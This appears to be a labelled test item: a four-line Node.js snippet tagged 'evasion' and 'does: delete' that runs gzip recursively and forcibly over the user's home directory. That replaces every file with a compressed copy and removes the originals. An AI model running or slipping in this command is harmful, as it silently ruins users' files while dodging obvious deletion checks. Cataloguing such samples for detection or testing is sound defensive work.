// evasion: gzip -r replaces every file under the home directory with a compressed copy and removes the original
// grade: medium; does: delete
const { execFileSync } = require("child_process");
const os = require("os");
execFileSync("gzip", ["-r", "-f", "-q", os.homedir()]);
